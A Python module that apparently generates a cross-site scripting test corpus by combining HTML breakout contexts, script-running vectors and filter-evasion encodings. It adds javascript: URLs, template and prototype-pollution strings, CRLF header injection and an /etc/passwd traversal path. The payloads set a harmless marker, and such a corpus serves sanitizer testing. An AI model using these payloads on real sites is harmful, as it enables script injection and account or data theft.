"""Texts that would run if anything made markup, addresses or code of them: contexts × vectors ×
encodings. Pure.

A *context* breaks out of where the text may stand, a *vector* starts a script once it is out, an
*encoding* is how both may be spelled so that a filter misses them. Each text that runs sets
`window.__pwned`.
"""

from collections.abc import Callable, Iterable
from html import escape
from itertools import product
from typing import Final
from urllib.parse import quote

CODE: Final = "window.__pwned=1"

CONTEXTS: Final = {
    "text": "{}",
    "double-quoted attribute": '">{}<i x="',
    "single-quoted attribute": "'>{}<i x='",
    "bare attribute": " x>{}",
    "comment": "-->{}<!--",
    "raw text element": "</script></style></title></textarea>{}",
    "json in a script": '"}}]}};</script>{}',
    "foreign content": "<svg><desc>{}",
}
VECTORS: Final = {
    "script": f"<script>{CODE}</script>",
    "image": f"<img src=x: onerror={CODE}>",
    "svg": f"<svg/onload={CODE}>",
    "frame": f"<iframe srcdoc='<script>parent.{CODE}</script>'></iframe>",
    "link": f"<a href=javascript:{CODE} autofocus onfocus={CODE}>x</a>",
    "details": f"<details open ontoggle={CODE}>x</details>",
    "animation": f"<style>@keyframes k{{}}</style><b style=animation-name:k onanimationstart={CODE}>",
    "dialog": "<img src=x: onerror=alert(1)>",
    "object": f"<object data='javascript:{CODE}'></object><embed src='javascript:{CODE}'>",
    "refresh": f"<meta http-equiv=refresh content='0;url=javascript:{CODE}'><base href=//x.invalid/>",
}
ENCODINGS: Final[dict[str, Callable[[str], str]]] = {
    "plain": lambda text: text,
    "upper case": lambda text: (
        text.replace("script", "ScRiPt").replace("img", "iMG").replace(" on", " oN")
    ),
    "entities": escape,
    "percent": quote,
    "escapes": lambda text: "".join(
        f"\\u{ord(char):04x}" if char in "<>\"'&" else char for char in text
    ),
    "broken by controls": lambda text: text.replace("<", "<\x00").replace(
        "javascript", "java\tscript\n"
    ),
    "wide and turned": lambda text: "\u202e" + text.replace("<", "\uff1c<").replace(">", ">\uff1e"),
}
NO_MARKUP: Final = (
    f"javascript:{CODE}",
    f"java\nscript:{CODE}",
    f"data:text/html,<script>{CODE}</script>",
    f"${{{CODE}}}`${{{CODE}}}`",
    f"{{{{constructor.constructor('{CODE}')()}}}}",
    f"'-({CODE})-'",
    f"\\';{CODE}//",
    f"]]><x onload={CODE}>",
    "__proto__",
    "constructor",
    "toString",
    "=HYPERLINK(1)",
    "+ADw-script+AD4-window.__pwned=1+ADw-/script+AD4-",
    "\ud7ff\ue000\ufffe\uffff",
    "%00%0d%0aX-Injected: 1",
    "../../../../etc/passwd",
)


def payloads() -> list[str]:
    """Make them all; none occurs twice, and the order is always the same."""
    products = product(CONTEXTS.values(), VECTORS.values(), ENCODINGS.values())
    return _spelt(products)


def pairs() -> list[str]:
    """Make a sixth of them, in which each context meets each vector, and each encoding every
    context and vector.
    """
    spellings = tuple(ENCODINGS.values())
    grid = product(enumerate(CONTEXTS.values()), enumerate(VECTORS.values()))
    return _spelt(
        (context, vector, spellings[(row + column) % len(spellings)])
        for (row, context), (column, vector) in grid
    )


def _spelt(chosen: Iterable[tuple[str, str, Callable[[str], str]]]) -> list[str]:
    made = [spell(context.format(vector)) for context, vector, spell in chosen]
    return list(dict.fromkeys([*made, *NO_MARKUP]))
